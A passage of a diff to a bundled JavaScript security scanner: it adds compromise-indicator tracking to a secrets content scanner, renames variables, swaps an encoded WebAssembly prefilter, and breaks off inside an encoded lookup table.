             remedy: "Leave the umask at 022, and give single files to the user that needs them.",
             identity: ["umask"]
@@ -32862,7 +33780,7 @@ var worldWritable = {
         if (change === null || !change.mode.worldWritable || change.mode.sticky) continue;
         const paths = concerned(evidence, step2, change.paths);
         if (paths === null) continue;
-        yield onCommand(meta26, step2, command2, {
+        yield onCommand(meta37, step2, command2, {
           message: `RUN lets every user of the container change ${paths.slice(0, 3).join(", ")}${paths.length > 3 ? ` and ${paths.length - 3} more` : ""} (${quote(evidence.cut, command2)}): who breaks into one process can plant code for the next.`,
           remedy: `Give it to the user that needs it instead: chown USER ${paths[0]}${paths[0] === "/tmp" || paths[0] === "/var/tmp" ? "; a temporary directory takes chmod 1777" : ", or chmod g+w with a group of its own"}.`,
           identity: [change.written, ...paths]
@@ -32986,58 +33904,6 @@ function ignoredBy(dockerignore, path26) {
 var hasExceptions = (dockerignore) => dockerignore.some(({ isException }) => isException);
 var UNTYPED = /[\x00-\x1f\x7f-\x9f\udc80-\udcff]|^ | $/gu;
 var patternOf = (path26) => path26.replace(/\/$/, "").replace(/([*?[\]\\])/g, "\\$1").replace(/^([!#])/, "\\$1").replace(UNTYPED, "?").replace(INVISIBLE, "?");
-
-// src/image/path.ts
-import { isUtf8 } from "node:buffer";
-var UNCLEAN = /(?:^|\/)\.{0,2}(?:\/|$)/;
-function cleanPath(name2) {
-  const inner = name2.slice(
-    name2.startsWith("./") ? 2 : name2.startsWith("/") ? 1 : 0,
-    name2.endsWith("/") ? -1 : void 0
-  );
-  if (!UNCLEAN.test(inner)) return `/${inner}`;
-  const parts = [];
-  for (const part3 of name2.split("/")) {
-    if (part3 === "" || part3 === ".") continue;
-    if (part3 === "..") parts.pop();
-    else parts.push(part3);
-  }
-  return `/${parts.join("/")}`;
-}
-var resolveLink = (from, target) => cleanPath(target.startsWith("/") ? target : `${parentOf2(from)}/${target}`);
-var parentOf2 = (path26) => path26.slice(0, path26.lastIndexOf("/")) || "/";
-var baseName = (path26) => path26.slice(path26.lastIndexOf("/") + 1);
-var childOf = (directory, name2) => directory === "/" ? `/${name2}` : `${directory}/${name2}`;
-function countParts(path26) {
-  let parts = 0;
-  let inside = false;
-  for (let at3 = 0; at3 < path26.length; at3++) {
-    const isSlash = path26.charCodeAt(at3) === 47;
-    if (!isSlash && !inside) parts++;
-    inside = !isSlash;
-  }
-  return parts;
-}
-var LOSSY = "\uFFFD";
-function decodeName(bytes2) {
-  const text5 = bytes2.toString("utf8");
-  if (!text5.includes(LOSSY) || isUtf8(bytes2)) return text5;
-  let name2 = "";
-  for (let at3 = 0; at3 < bytes2.length; ) {
-    const length = [1, 2, 3, 4].find((count2) => at3 + count2 <= bytes2.length && isUtf8(bytes2.subarray(at3, at3 + count2)));
-    name2 += length === void 0 ? String.fromCharCode(56320 + (bytes2[at3] ?? 0)) : bytes2.toString("utf8", at3, at3 + length);
-    at3 += length ?? 1;
-  }
-  return name2;
-}
-var isSameName = (name2, lossy) => name2 === lossy || /[\udc80-\udcff]/u.test(name2) && bytesOfName(name2).toString("utf8") === lossy;
-function bytesOfName(name2) {
-  return Buffer.concat(
-    name2.split(/([\udc80-\udcff])/u).map(
-      (part3) => /^[\udc80-\udcff]$/u.test(part3) ? Buffer.from([part3.charCodeAt(0) - 56320]) : Buffer.from(part3)
-    )
-  );
-}
 
 // src/dockerfile/copy.ts
 var wordsOf2 = ({ text: text5 }) => jsonWords(text5) ?? text5.split(/\s+/).map((word) => word.replace(/^(["'])(.*)\1$/, "$2"));
@@ -33888,7 +34754,7 @@ async function* oneStream2(feed, onDictionary) {
   }
   for await (const piece of tail(feed)) if (isKnown) yield piece;
 }
-var [SIZE, INPUT2, INPUT_AT, INPUT_SIZE, OUTPUT, OUTPUT_AT] = [0, 1, 2, 3, 4, 5];
+var [SIZE, INPUT3, INPUT_AT, INPUT_SIZE, OUTPUT, OUTPUT_AT] = [0, 1, 2, 3, 4, 5];
 var loading = null;
 async function load() {
   const { XzReadableStream } = import_xz_decompress.default;
@@ -33922,7 +34788,7 @@ function* step(wasm, context2, bytes2) {
   const words3 = () => new Uint32Array(wasm.memory.buffer, context2, 8);
   const word = (index) => words3()[index] ?? 0;
   const piece = bytes2.subarray(0, word(SIZE));
-  new Uint8Array(wasm.memory.buffer, word(INPUT2), piece.length).set(piece);
+  new Uint8Array(wasm.memory.buffer, word(INPUT3), piece.length).set(piece);
   wasm.supply_input(context2, piece.length);
   for (let full = true; full || word(INPUT_AT) < word(INPUT_SIZE); ) {
     const result = wasm.get_next_output(context2);
@@ -34927,9 +35793,9 @@ var SIGNS = {
 };
 var BEFORE_SIGN = 16;
 var TRIAL = 1 << 16;
-async function confirmed(sign2, feed, position, isScript) {
-  const head = await feed.peek(sign2 === "gzip" || sign2 === "zip" ? 1 << 12 : 64);
-  switch (sign2) {
+async function confirmed(sign3, feed, position, isScript) {
+  const head = await feed.peek(sign3 === "gzip" || sign3 === "zip" ? 1 << 12 : 64);
+  switch (sign3) {
     case "zip":
       return isZipMember(head) && (head.readUInt16LE(8) !== 8 || (head.readUInt16LE(6) & 1) !== 0 || inflates(head.subarray(30 + head.readUInt16LE(26) + head.readUInt16LE(28)))) ? "zip" : null;
     case "gzip":
@@ -35233,13 +36099,13 @@ function charOf({
   point,
   wide,
   octal: octal2,
-  sign: sign2,
+  sign: sign3,
   entity
 }) {
   const code3 = percent ?? unicode ?? hex3 ?? point ?? wide;
   if (code3 !== void 0) return String.fromCharCode(Number.parseInt(code3, 16));
   if (octal2 !== void 0) return String.fromCharCode(Number.parseInt(octal2, 8));
-  if (sign2 !== void 0) return sign2;
+  if (sign3 !== void 0) return sign3;
   const named3 = ENTITIES[entity ?? ""];
   if (named3 !== void 0) return named3;
   const number5 = (entity ?? "").replace("#", "");
@@ -35666,7 +36532,7 @@ function* textsAt(window, length, places, budget, isLast) {
 function* unpacked2(joined3, budget) {
   let [tries, done] = [0, 0];
   for (const { 0: text5, index } of joined3.matchAll(SIGN)) {
-    const { characters, bytes: skipped } = PACKED_SIGNS.find((sign2) => sign2.text === text5) ?? {
+    const { characters, bytes: skipped } = PACKED_SIGNS.find((sign3) => sign3.text === text5) ?? {
       characters: 0,
       bytes: 0
     };
@@ -35794,6 +36660,7 @@ var MAX_SLASHES = 16;
 var TOKEN_RUN = /[A-Za-z0-9_.+/=~-]*/y;
 var MAX_SEEN = 1e5;
 var MAX_PENDING_SIGNS = 5e3;
+var NO_INDICATORS = [];
 var NO_SIGNS = [];
 var NO_ARCHIVES = [];
 var NO_MATCHES = [];
@@ -35840,6 +36707,7 @@ var ContentScan = class _ContentScan {
   /** Where in the window the last match of a detector stands. Hits come nearly in order: one may begin in front of the last. */
   #tried = null;
   #seen = null;
+  #indicators = null;
   #unescaped = null;
   #joined = null;
   constructor(compiled2, path26, depth, budget, bounds) {
@@ -35872,6 +36740,10 @@ var ContentScan = class _ContentScan {
   /** What was found, in order of position; complete after the last chunk. */
   get matches() {
     return this.#kept?.matches ?? NO_MATCHES;
+  }
+  /** Signs of a compromise, each once. */
+  get indicators() {
+    return this.#indicators === null ? NO_INDICATORS : [...this.#indicators.values()];
   }
   /** Matches that prove nothing and were not kept, by detector. */
   get dropped() {
@@ -35951,10 +36823,10 @@ var ContentScan = class _ContentScan {
       if (position < from || position >= to) return;
       for (const detector of owners[literal4] ?? []) this.#try(detector, position, length, escaped2[literal4] ?? null);
       if (!isSign[literal4]) return;
-      const sign2 = signs2[literal4] ?? null;
-      if (sign2 !== null && this.#depth === 0 && this.#isLikely(sign2.packing, position - sign2.before)) {
+      const sign3 = signs2[literal4] ?? null;
+      if (sign3 !== null && this.#depth === 0 && this.#isLikely(sign3.packing, position - sign3.before)) {
         if (this.#signs.length < MAX_PENDING_SIGNS)
-          this.#signs.push({ sign: sign2.packing, at: this.#base + position - sign2.before });
+          this.#signs.push({ sign: sign3.packing, at: this.#base + position - sign3.before });
         else this.leftSigns = true;
       }
       if (packed[literal4] === true) places.push(position);
@@ -36032,9 +36904,15 @@ var ContentScan = class _ContentScan {
     };
   }
   /** Whether what a sign announces may stand at a place of the window: signs that are words stand in much text. */
-  #isLikely(sign2, at3) {
+  #isLikely(sign3, at3) {
     const { window } = this.#kernel;
-    return sign2 === "pdf-stream" ? isZlibHeader(window[at3] ?? 0, window[at3 + 1] ?? 0) : sign2 !== "png-text" || !this.#isText;
+    return sign3 === "pdf-stream" ? isZlibHeader(window[at3] ?? 0, window[at3 + 1] ?? 0) : sign3 !== "png-text" || !this.#isText;
+  }
+  #addIndicator(detector, offset, line2) {
+    this.#indicators ??= /* @__PURE__ */ new Map();
+    const known3 = this.#indicators.get(detector);
+    if (known3 === void 0 || known3.line === null && line2 !== null)
+      this.#indicators.set(detector, { detector, offset, line: line2 });
   }
   /** Searches text that was decoded; the window is another one afterwards. */
   #matchesIn(text5) {
@@ -36044,6 +36922,7 @@ var ContentScan = class _ContentScan {
     });
     inner.push(text5, true);
     if (inner.dropped.size > 0) this.#keep().leaveOut(inner.dropped);
+    for (const { detector } of inner.indicators) this.#addIndicator(detector, this.#base, null);
     return inner.matches;
   }
   /** Takes what was found where escapes are undone; what is written plainly there was found before, and is one with this. */
@@ -36218,6 +37097,10 @@ var ContentScan = class _ContentScan {
     const first2 = raw === null ? start + at3 + inner : raw(at3 + inner);
     const length = raw === null ? size : raw(at3 + inner + size) - first2;
     const strength = checked3.strength ?? detector.strength;
+    if (detector.isIndicator === true) {
+      this.#addIndicator(detector.id, this.#base + first2, this.#lineAt(first2));
+      return "weak";
+    }
     this.#keep().add({
       detector,
       value: secret,
@@ -40100,7 +40983,7 @@ var whole = (about, rest) => ({
   revoke: REVOKE,
   ...rest
 });
-var KEYS = [
+var KEYS2 = [
   {
     id: "age-key",
     issuer: "age",
@@ -45420,16 +46303,17 @@ var GROUPS = [
   { title: "Databases and data", detectors: DATA },
   { title: "Office, design, content", detectors: WORK },
   { title: "JSON web tokens", detectors: JWTS },
-  { title: "Private keys and keystores", detectors: KEYS },
+  { title: "Private keys and keystores", detectors: KEYS2 },
   { title: "Logins and assignments", detectors: [...LOGINS2, ...STATEMENTS].sort((a, b) => a.id < b.id ? -1 : 1) },
   { title: "Files whose place and form make them secret", detectors: FILES }
 ];
-var KEY_IDS = new Set(KEYS.map(({ id }) => id));
+var KEY_IDS = new Set(KEYS2.map(({ id }) => id));
 var isKey = (id) => KEY_IDS.has(id);
 var isFile = (detector) => "parse" in detector;
 var DETECTORS = GROUPS.flatMap(
   ({ detectors: detectors2 }) => detectors2.filter((detector) => !isFile(detector))
 );
+var SEARCHED = [...DETECTORS, ...INDICATORS];
 var FILE_DETECTORS = GROUPS.flatMap(({ detectors: detectors2 }) => detectors2.filter(isFile));
 
 // src/secrets/file-index.ts
@@ -45521,7 +46405,7 @@ var NameIndex = class _NameIndex {
 };
 
 // src/secrets/prefilter/kernel-wasm.ts
-var PREFILTER_WASM_BASE64 = "AGFzbQEAAAABLgZgBX9/f39/AX9gAAF/YAh/f39/f39/fwF/YAR/f39/AGACf38Bf2ADf39/AX8DCgkAAgEDAAQBBQAFAwEAAQYQA38BQQALfwFBAAt/AUEACwdjCQhoZWFwQmFzZQAGCHJlc3VtZUF0AAIEc2NhbgABC2luZGV4T2ZaZXJvAAUJdXRmMTZSdW5zAAAGbmFycm93AAMJY291bnRCeXRlAAcKYmFzZTY0UnVucwAIBm1lbW9yeQIADAEDCoAUCYEDAgd/AXsgAiEIIAAiBSEHA0ACQCAGIAdBEGogAU0EfyAH/QAEACIM/QwAAAAAAAAAAAAAAAAAAAAA/SP9ZCIJQdWqAUYgCUGq1QJGcgR/IAlBACAM/QwJCQkJCQkJCQkJCQkJCQkJ/XH9DHZ2dnZ2dnZ2dnZ2dnZ2dnb9Jv1kIAlB//8Dc0YbBUEACwVBAAsiCUYgASAHS3FFBEAgAkEIaiADTSAHIAVrIARBBHRPQQAgBhtxBEAgBkHVqgFGIQogByEGA0AgBSAAQQJqTwR/IAVBAmsiCyAKRWotAAAEf0EABSAKIAtqLQAAQQlrQfYASQsFQQALBEAgBUECayEFDAELCwNAIAZBAmogAU0EfyAGIApFai0AAAR/QQAFIAYgCmotAABBCWtB9gBJCwVBAAsEQCAGQQJqIQYMAQsLIAIgBSAAazYCACACIAYgBWsgCnI2AgQgAkEIaiECCyABIAdNDQEgCSEGIAchBQsgB0EQaiEHDAELCyACIAhrQQN2C6kHAwt/E3sBfiAEIQoDQCACIANJBEAgAiEJIAD9AAQAISMgAP0ABBAhIiAA/QAEICEhIAD9AAQwISAgAP0ABEAhHyAA/QAEUCEeIAD9AARgIR0gAP0ABHAhHCAA/QAEgAEhGyAA/QAEkAEhGiAA/QAEoAEhGSAA/QAEsAEhGEGAkAL9AAQAISQgAyACQYBAayIIIAMgCEkbIgggAmtBAWtBBnZBA3RBgAhqQgA3AwBBgAghEQNAIAggCUsEQCARICMgCf0ABAAiEyAk/U4iF/0OICIgE0EE/Y0BICT9TiIW/Q79TiAhIAn9AAQBIhMgJP1OIhX9DiAgIBNBBP2NASAk/U4iFP0O/U79TiAfIAn9AAQCIiUgJP1OIhP9DiAeICVBBP2NASAk/U4iJf0O/U79TiAdIBf9DiAcIBb9Dv1OIBsgFf0OIBogFP0O/U79TiAZIBP9DiAYICX9Dv1O/U79UP0MAAAAAAAAAAAAAAAAAAAAAP0j/WRBf3M7AQAgCUEQaiEJIBFBAmohEQwBCwtBgBAhEUGACCEJA0AgAiAISQRAIAkpAwAhJgNAICZCAFIEQCACICZ6p2ohCyAmICZCAX2DISYgCygCAEH///8HcUGx893xeWxBEHYhDCARIAs2AgAgESAAIAxBA3ZqLQDAQyAMQQdxdkEBcUECdGohEQwBCwsgAkFAayECIAlBCGohCQwBCwtBgBAhAgNAIAIgEUkEQCACKAIAIQwgBEGAAmogBUsEQCAMJAAgBCAKa0EEdg8LIAAgDCgCAEGgwIABckH///8HcUGx893xeWxBFHZBAXRqLwHAAyEJA0AgCQRAIAwgAEHAgwFqIAlBBnRqIhAtADBrIg8gAU8EQCAPIBAtADFqIgkgA01BACAP/QAEACAQ/QAEEP1QIBD9AAQg/U4gEP0ABAD9I/1jGwRAIAEkAUEAJAIgBgR/IBAtADhBAXEFQQALBH8gAEHAAWogCSADIAYgEC0AOSIJIAYgCUsbIAcQBAUgEC0AOSIOBH8gAEHAAWohDSAJIAMgCSAOaiISIAMgEkkbIRIDQCAJIBJJBH8gDSAJLQAAai0AAEEgcQVBAAsEQCAJQQFqIQkMAQsLIA5qIAlGBUEBCwsEQCAEIA8gAWs2AgAgBCAQKAI0NgIEIAQjASABazYCCCAEIwI2AgwgBEEQaiEECwsLIBAvATIhCQwBCwsgAkEEaiECDAELCyAIIQIMAQsLIAIkACAEIAprQQR2CwQAIwALcAECfyADQQN0IQMDQCACIARLBEAgASAEQQF2aiAAIARqIgX9AAQAIAP9jQH9DP8A/wD/AP8A/wD/AP8A/wD9TiAF/QAEECAD/Y0B/Qz/AP8A/wD/AP8A/wD/AP8A/U79Zv0LBAAgBEEgaiEEDAELCwuFBAEEfyACIAFBGGoiBSACIAVJGyEFA0AgASAFSQR/IAAgAS0AAGotAABBAXEFQQALBEAgAUEBaiEBDAELCyACIAFBEGoiBSACIAVJGyEFA0AgASAFSQR/IAAgAS0AAGotAABBAnEFQQALBEAgAUEBaiEBDAELCyABIQUgAiABQQNqIgYgAiAGSRshBgNAIAEgBkkEfyAAIAEtAABqLQAAQQRxBUEACwRAIAFBAWohAQwBCwsgASAFRgRAQQAPCyABIAIgAUEQaiIGIAIgBkkbIQYDQCABIAZJBH8gACABLQAAai0AAEECcQVBAAsEQCABQQFqIQEMAQsLIAFBAmogASABQQFqIAJJBH8gAS0AACIFQSByIgZB4gBGIAVBwABGciAGQeYARnIgBkHsAEZyIAZB7gBGciAGQfIARnIgBkH1AEZyBUEACwR/IAEtAAEiAUEnRiABQSJGciABQeAARnIFQQALGyIBSQR/IAFBAWstAAAFQQALIgVBACAFQSdGIAVBIkZyIAVB4ABGchshByABJAEgAiABQaABaiIFIAIgBUkbIQhBACECA0AgASAISQRAIAEtAAAiBSAAai0AACIGQQhxBH9BAAUgB0UgBSAHRnIgBUEgTXILRQRAIAIgBnIhAiABQQFqIQEMAgsLCyABIwFrJAIgAiAEcSAERiMCIANPcQuMAQECfyAAIQMDQCAAQUBrIgIgAU0EQCAA/QAEACAA/QAEEP13IAD9AAQgIAD9AAQw/Xf9d/1jBEAgAiEADAILCwsDQCAAIAFJBEAgAP0ABAD9DAAAAAAAAAAAAAAAAAAAAAD9I/1kIgIEQEF/IAAgAmhqIgAgA2sgACABTxsPCyAAQRBqIQAMAQsLQX8LBgBBsJACC1cCAn8BeyAC/Q8hBQNAIABBEGoiAyABTQRAIAQgAP0ABAAgBf0j/WRpaiEEIAMhAAwBCwsDQCAAIAFJBEAgBCAALQAAIAJGaiEEIABBAWohAAwBCwsgBAvlAgIGfwR7IAIhCEGQkAL9AAQAIQxBoJAC/QAEACENQYCQAv0ABAAhCyAAIgUhBwNAAkAgBiAHQRBqIAFNBH8gDCAH/QAEACIOIAv9Tv0OIA0gDkEE/Y0BIAv9Tv0O/U79DAAAAAAAAAAAAAAAAAAAAAD9I/1TBUEBC0UiCUYgASAHS3FFBEAgAkEIaiADTUEAIAcgBWsgBEEEdE9BACAGGxsEQCAHIQYDQCAAIAVJBH8gBUEBay0AACIKQQ9xQZCQAmotAABBASAKQQR2dEEAIApBgAFJG3EFQQALBEAgBUEBayEFDAELCwNAIAEgBksEfyAGLQAAIgpBD3FBkJACai0AAEEBIApBBHZ0QQAgCkGAAUkbcQVBAAsEQCAGQQFqIQYMAQsLIAIgBSAAazYCACACIAYgBWs2AgQgAkEIaiECCyABIAdNDQEgCSEGIAchBQsgB0EQaiEHDAELCyACIAhrQQN2Cws+AwBBgJACCxAPDw8PDw8PDw8PDw8PDw8PAEGQkAILEKj4+Pj4+Pj4+PjwVFBUUHQAQaCQAgsIAQIECBAgQIA=";
+var PREFILTER_WASM_BASE64 = "AGFzbQEAAAABLgZgBX9/f39/AX9gAAF/YAh/f39/f39/fwF/YAR/f39/AGACf38Bf2ADf39/AX8DCgkAAgEDAAQBBQAFAwEAAQYQA38BQQALfwFBAAt/AUEACwdjCQhoZWFwQmFzZQAGCHJlc3VtZUF0AAIEc2NhbgABC2luZGV4T2ZaZXJvAAUJdXRmMTZSdW5zAAAGbmFycm93AAMJY291bnRCeXRlAAcKYmFzZTY0UnVucwAIBm1lbW9yeQIADAEDCoAUCYEDAgd/AXsgAiEIIAAiBSEHA0ACQCAGIAdBEGogAU0EfyAH/QAEACIM/QwAAAAAAAAAAAAAAAAAAAAA/SP9ZCIJQdWqAUYgCUGq1QJGcgR/IAlBACAM/QwJCQkJCQkJCQkJCQkJCQkJ/XH9DHZ2dnZ2dnZ2dnZ2dnZ2dnb9Jv1kIAlB//8Dc0YbBUEACwVBAAsiCUYgASAHS3FFBEAgAkEIaiADTSAHIAVrIARBBHRPQQAgBhtxBEAgBkHVqgFGIQogByEGA0AgBSAAQQJqTwR/IAVBAmsiCyAKRWotAAAEf0EABSAKIAtqLQAAQQlrQfYASQsFQQALBEAgBUECayEFDAELCwNAIAZBAmogAU0EfyAGIApFai0AAAR/QQAFIAYgCmotAABBCWtB9gBJCwVBAAsEQCAGQQJqIQYMAQsLIAIgBSAAazYCACACIAYgBWsgCnI2AgQgAkEIaiECCyABIAdNDQEgCSEGIAchBQsgB0EQaiEHDAELCyACIAhrQQN2C6kHAwt/E3sBfiAEIQoDQCACIANJBEAgAiEJIAD9AAQAISMgAP0ABBAhIiAA/QAEICEhIAD9AAQwISAgAP0ABEAhHyAA/QAEUCEeIAD9AARgIR0gAP0ABHAhHCAA/QAEgAEhGyAA/QAEkAEhGiAA/QAEoAEhGSAA/QAEsAEhGEGAkAL9AAQAISQgAyACQYBAayIIIAMgCEkbIgggAmtBAWtBBnZBA3RBgAhqQgA3AwBBgAghEQNAIAggCUsEQCARICMgCf0ABAAiEyAk/U4iF/0OICIgE0EE/Y0BICT9TiIW/Q79TiAhIAn9AAQBIhMgJP1OIhX9DiAgIBNBBP2NASAk/U4iFP0O/U79TiAfIAn9AAQCIiUgJP1OIhP9DiAeICVBBP2NASAk/U4iJf0O/U79TiAdIBf9DiAcIBb9Dv1OIBsgFf0OIBogFP0O/U79TiAZIBP9DiAYICX9Dv1O/U79UP0MAAAAAAAAAAAAAAAAAAAAAP0j/WRBf3M7AQAgCUEQaiEJIBFBAmohEQwBCwtBgBAhEUGACCEJA0AgAiAISQRAIAkpAwAhJgNAICZCAFIEQCACICZ6p2ohCyAmICZCAX2DISYgCygCAEH///8HcUGx893xeWxBEHYhDCARIAs2AgAgESAAIAxBA3ZqLQDAQyAMQQdxdkEBcUECdGohEQwBCwsgAkFAayECIAlBCGohCQwBCwtBgBAhAgNAIAIgEUkEQCACKAIAIQwgBEGAEGogBUsEQCAMJAAgBCAKa0EEdg8LIAAgDCgCAEGgwIABckH///8HcUGx893xeWxBFHZBAXRqLwHAAyEJA0AgCQRAIAwgAEHAgwFqIAlBBnRqIhAtADBrIg8gAU8EQCAPIBAtADFqIgkgA01BACAP/QAEACAQ/QAEEP1QIBD9AAQg/U4gEP0ABAD9I/1jGwRAIAEkAUEAJAIgBgR/IBAtADhBAXEFQQALBH8gAEHAAWogCSADIAYgEC0AOSIJIAYgCUsbIAcQBAUgEC0AOSIOBH8gAEHAAWohDSAJIAMgCSAOaiISIAMgEkkbIRIDQCAJIBJJBH8gDSAJLQAAai0AAEEgcQVBAAsEQCAJQQFqIQkMAQsLIA5qIAlGBUEBCwsEQCAEIA8gAWs2AgAgBCAQKAI0NgIEIAQjASABazYCCCAEIwI2AgwgBEEQaiEECwsLIBAvATIhCQwBCwsgAkEEaiECDAELCyAIIQIMAQsLIAIkACAEIAprQQR2CwQAIwALcAECfyADQQN0IQMDQCACIARLBEAgASAEQQF2aiAAIARqIgX9AAQAIAP9jQH9DP8A/wD/AP8A/wD/AP8A/wD9TiAF/QAEECAD/Y0B/Qz/AP8A/wD/AP8A/wD/AP8A/U79Zv0LBAAgBEEgaiEEDAELCwuFBAEEfyACIAFBGGoiBSACIAVJGyEFA0AgASAFSQR/IAAgAS0AAGotAABBAXEFQQALBEAgAUEBaiEBDAELCyACIAFBEGoiBSACIAVJGyEFA0AgASAFSQR/IAAgAS0AAGotAABBAnEFQQALBEAgAUEBaiEBDAELCyABIQUgAiABQQNqIgYgAiAGSRshBgNAIAEgBkkEfyAAIAEtAABqLQAAQQRxBUEACwRAIAFBAWohAQwBCwsgASAFRgRAQQAPCyABIAIgAUEQaiIGIAIgBkkbIQYDQCABIAZJBH8gACABLQAAai0AAEECcQVBAAsEQCABQQFqIQEMAQsLIAFBAmogASABQQFqIAJJBH8gAS0AACIFQSByIgZB4gBGIAVBwABGciAGQeYARnIgBkHsAEZyIAZB7gBGciAGQfIARnIgBkH1AEZyBUEACwR/IAEtAAEiAUEnRiABQSJGciABQeAARnIFQQALGyIBSQR/IAFBAWstAAAFQQALIgVBACAFQSdGIAVBIkZyIAVB4ABGchshByABJAEgAiABQaABaiIFIAIgBUkbIQhBACECA0AgASAISQRAIAEtAAAiBSAAai0AACIGQQhxBH9BAAUgB0UgBSAHRnIgBUEgTXILRQRAIAIgBnIhAiABQQFqIQEMAgsLCyABIwFrJAIgAiAEcSAERiMCIANPcQuMAQECfyAAIQMDQCAAQUBrIgIgAU0EQCAA/QAEACAA/QAEEP13IAD9AAQgIAD9AAQw/Xf9d/1jBEAgAiEADAILCwsDQCAAIAFJBEAgAP0ABAD9DAAAAAAAAAAAAAAAAAAAAAD9I/1kIgIEQEF/IAAgAmhqIgAgA2sgACABTxsPCyAAQRBqIQAMAQsLQX8LBgBBsJACC1cCAn8BeyAC/Q8hBQNAIABBEGoiAyABTQRAIAQgAP0ABAAgBf0j/WRpaiEEIAMhAAwBCwsDQCAAIAFJBEAgBCAALQAAIAJGaiEEIABBAWohAAwBCwsgBAvlAgIGfwR7IAIhCEGQkAL9AAQAIQxBoJAC/QAEACENQYCQAv0ABAAhCyAAIgUhBwNAAkAgBiAHQRBqIAFNBH8gDCAH/QAEACIOIAv9Tv0OIA0gDkEE/Y0BIAv9Tv0O/U79DAAAAAAAAAAAAAAAAAAAAAD9I/1TBUEBC0UiCUYgASAHS3FFBEAgAkEIaiADTUEAIAcgBWsgBEEEdE9BACAGGxsEQCAHIQYDQCAAIAVJBH8gBUEBay0AACIKQQ9xQZCQAmotAABBASAKQQR2dEEAIApBgAFJG3EFQQALBEAgBUEBayEFDAELCwNAIAEgBksEfyAGLQAAIgpBD3FBkJACai0AAEEBIApBBHZ0QQAgCkGAAUkbcQVBAAsEQCAGQQFqIQYMAQsLIAIgBSAAazYCACACIAYgBWs2AgQgAkEIaiECCyABIAdNDQEgCSEGIAchBQsgB0EQaiEHDAELCyACIAhrQQN2Cws+AwBBgJACCxAPDw8PDw8PDw8PDw8PDw8PAEGQkAILEKj4+Pj4+Pj4+PjwVFBUUHQAQaCQAgsIAQIECBAgQIA=";
 
 // src/secrets/prefilter/layout.ts
 var BUCKET_HALVES = 2;
@@ -45542,7 +46426,7 @@ var CLASS_VALUE = 8;
 var CLASS_DIGIT = 16;
 var CLASS_TOKEN = 32;
 var RECORD_BYTES = 16;
-var MAX_CHAIN = 16;
+var MAX_CHAIN = 128;
 var READ_AHEAD = 64;
 var MAX_RUN = 24;
 var MIN_VALUE3 = 6;
@@ -45645,8 +46529,8 @@ import { createHash as createHash8 } from "node:crypto";
 import { inflateRawSync as inflateRawSync3 } from "node:zlib";
 
 // src/secrets/prefilter/prebuilt-table.ts
-var PREBUILT_KEY = "26d8752424e9b0998caeb80a7da388afbdfe64544106b3394ba574fe87d0ba77";
-var PREBUILT_TABLE = "xZ0HfBzF9fjfFsknWbaPXgNrg8AUySou2MZwstx7w4UIjr27lXTW6e58RcUEOLopoYbeW6gBQkILEEjvJCENQkJ6T0gPpIB/zO7e3pvZ3dt9+P/5/PVJjHS333lT3rx586Zs767dr1xyb8tnJ9z/o2MPvfTI5zu05td+f8cfbgAAUCWA/a6Y+kBLSpurfubGea8qq76uwYp9z3nhnCc1kEAFgNv/8Ok3/3D78rE3Hzr3gkrP4jc0ef2Vu999642oBBX2/dA3ejcOvb59dGj4lcQXvrtqpgqbet6Mv7kbzJ8KjH9u2+uvFQuvvvJ5db8NMx5MA7TuePHtF98GgBh7oGtd96z1m7asj50Kx0x9bd1PIvDjHS+c+UJBtXnnR2Y/4PqRI/L0yPTpMsiR6eoxx0yf6/y0aHC8Gokc4/vTfGxz5BjZ/3togekQ9CPD/4+fnyvs36sVgBGp9ulnzMz0qNW/o/ZvFzjPvKUAHKwCjCt8em3mE/+1n4urtW++JPFP3sj9PdtM5yOoEsoqwEr1IRU/dYf93z+ZTy/yqbIb1Q871C7fah3j5E+Vgutqg5PqU/JmM11NAficQz5gy/ppnbSOt/97dKC0Iee3/5n/vmGmeomZh98q7uf/IZT0Os9U18qn2aVYpxwpAfxS+ptHWp+UAXrt9DY4pZmlFlWAv8gPmCl8TGBe4f76j53qYRLACTLA3dJlJnWY88T8uqV/XDkCtfwhITrH09wzc1Xx+y12OY4y//0cTLOff4Urv0rqPb9/T8d/Ahere9YHP65+0EnhU/JpCoVthR3qJuevE4V6muiRs3X2Mz9zyfmjj+QzFIDJLJ/KmR6a/UubmuXQnQF5/oOZyirpQvRZh0dOh53PPuFqf7WuRuwHFwa2ybVCWX4sAxyOPtvmk8IzIVo75zzzabjKyembyvE+uW6EB+1vjjP/PUjaqShOGic7uToJAJL2X79WulWA+z1z83MJ4KM+rfkvGeA8m/qAx/c/4bjFXC0NOdLm1bWX1/vIVkJY2X75fhf9kv3JFvVu9Z9mGqu5Z55y8nWEr4Si+U0P+n6OSV0uSLsbtdGFQmrL1MsUgIvk31THIefZD5n/Dpop3qdO88jFO/azCY+8nfIeV3G15IqA2nrI/DftcDOd3xrVUaWgdKOSHIRSf04B+BJK5wvKck72KnVeHRt0iZmrm83fz5IAzlUE/6o6hgjluYsrzSddErrR9383vx2ok4snlY1c+tvfq6+vej7frwK8wPW7HzjPtQvPDki9NU2SAc62/9J9rc1pXKneke5Hf33fz+fi+6OdQl7+tv3J4T7l3tuVi9vkhKAjt9o5vj30mPQvBeBEl8QFTro7OamPSpuEXBQC+/RXXE+k7NwdJAM8qvBO8L7mL+s9avwT5pMfUgGaZH7I/iU8zj35sGd7ZZ1PR1zl/bSLeA6edT6bgD7vMT+druzvKeNhCSAvlPdms7TruU9/JV1k5+FZ9VInNxcqAMskgL8K+fur1OBI+7JL5iMSwMe5T/6O8tZdp2VONZ97SwJIeI2/MkDJo5Rl9NlfZYBPopJ93/799bpaMR5ysvMj13OPBej1TwS5+6h3KwDXIOoKM83rPNLp5D77sPKo/Ie6sj76nrZ+xPnrpwFlOsj894dOy77rU0Pjzudn+JR1tbxMkFWu6zP+t863RykAZzgSv+oqw1uQQXSH8/s8NoOy5gEeuZzsSufP0tnosxvUqwTqGotTAQ6yZdxjP/GG/bdm53Jc/bL5WwOzf7x9VAGO4tI9peoXO59+UQY4RgH4APfcIuevD6DSlszfL5U+buY8assfs8vxa+sZCeDbnvV7n/1ck/DtzRLAcb5a/DkF4DkV4Bantm4LmA+cZ36/D0yUAGYoI2bKD5v/LvfQyF/LP5QA/uj6pkO+T7qCy9UzMsBxwnP7KVOFT9b5aPFjrk82Bvb5dkf+keo2Id0NAt2Pfv+TkM5dTjrtoeZSp3NPzfVkTg+wO2uVPl9ZJRXgLflBFeAlaz4feoZ3j3S5KfdrJnGEArDA/PtbMILq4xwnvSnmb89wdXepvFn5Fd8XFYBvyABLZIDfO+kc7fz2GXgW5fBtBeCH1piFPn3QJ8dfV/aS5pop/cN8+k